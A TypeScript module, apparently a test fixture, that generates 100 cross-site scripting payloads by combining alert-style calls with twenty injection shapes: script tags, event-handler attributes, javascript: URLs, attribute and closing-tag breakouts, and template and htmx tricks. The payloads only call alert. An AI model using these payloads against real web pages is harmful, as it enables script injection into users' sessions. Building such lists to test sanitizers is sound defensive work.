/** A hundred ways to make a page run something, each calling `alert` if it does. */
const CALLS = ['alert(1)', 'window.alert`1`', 'top["al"+"ert"](1)', '(alert)(1)', 'self.alert(document.domain)'];

const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' onmouseover='${call}`,
  (call) => `javascript:${call}`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `{{#with "x"}}<script>${call}</script>{{/with}}`,
  (call) => `\${${call}}<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<div hx-get="/v1/whoami" hx-trigger="load" hx-on::after-request="${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x`,
  (call) => `--></style><style onload=${call}></style><object data="javascript:${call}">`,
];

export const HOSTILE: readonly string[] = SHAPES.flatMap((shape) => CALLS.map(shape));
